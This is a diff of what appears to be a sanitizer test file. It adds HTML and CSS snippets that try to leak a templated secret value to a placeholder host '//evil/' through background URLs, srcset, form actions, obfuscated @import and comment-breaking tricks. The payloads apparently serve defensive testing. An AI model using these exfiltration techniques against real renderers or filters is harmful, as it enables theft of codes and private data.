@@ -270,7 +270,27 @@ HTML = [
     "<ul style='list-style-image:url(//evil/)'>{% if code > '5' %}<li>x</li>{% endif %}</ul>",
     "<p style='--a:url(//evil/)'>{% if code > '5' %}<b style='color:var(--a)'>x</b>{% endif %}</p>",
     "<p style='background:url(//evil/{{ code }})'>x</p>",
+    "<table background='//evil/'><tr><td>{{ code }}</td></tr></table>",
+    # A part that isn't seen may load its background later.
+    (
+        "{% if code > '5' %}Some lines.{% endif %}"
+        "<div style='content-visibility:auto'><p style='background:url(//evil/)'>x</p></div>"
+    ),
     "<p style='background:url(a);cursor:url(//evil/)'>{{ code }}</p>",
+    "<picture>{% if code > '5' %}<source srcset='//evil/'>{% endif %}<img src='//e/1'></picture>",
+    "<picture><source srcset='//evil/{{ code }}'><img src='//evil/1'></picture>",
+    "<img src='//evil/' sizes='auto' srcset='//evil/1 1w'><p>{{ code }}</p>",
+    *(
+        "<button form='f' name='c' value='{{ code }}'>x</button>",
+        "<style media='{{ code }}'></style>x",
+    ),
+    "<button formaction='//evil/'>{{ code }}</button>",
+    *("<button>evil.example/</button>{{ code }}", "<p>&lt;#https://e.example/{{ code }}&gt;</p>"),
+    *(
+        "<p><#>{{ code }}</p>",
+        "<time datetime='{{ code }}'>x</time>",
+        "<p mc:edit='{{ code }}'>x</p>",
+    ),
     "<p style='background:u\\72l(//evil/)'>{{ code }}</p>",
     "<p style='background:image-set(\"//evil/\" 1x)'>{{ code }}</p>",
     "<p style='background:url{{ '' }}(//evil/)'>{{ code }}</p>",
@@ -288,6 +308,18 @@ HTML = [
             "p:empty/*;*/{color:red}",
             "@container (min-width:1px){p{background:url(//evil/)}}",
             "p{behavior:url(//evil/)}",
+            "p{content:'/*'}@import '//evil/';b{content:'*/'}",
+            """p{content:'"'}@font-face{src:url(//evil/)}b{content:'"'}""",
+            """p{content:"\\"}@import '//evil/';b{content:"}""",
+            'p{content:"\\\n"}@import "//evil/";',
+            '/*"*/@import "//evil/";/*"*/',
+            "@im/**/port '//evil/';",
+            "@\\69mport '//evil/';",
+            "<!-- @import '//evil/'; -->",
+            "p:not(:empty){color:red}",
+            "p{color:red;&:empty{color:blue}}",
+            "@supports selector(p:has(b)){p{color:red}}",
+            "b:nth-child(1 of :empty){color:red}",
             "p{width:expression(1)}",
         )
     ),
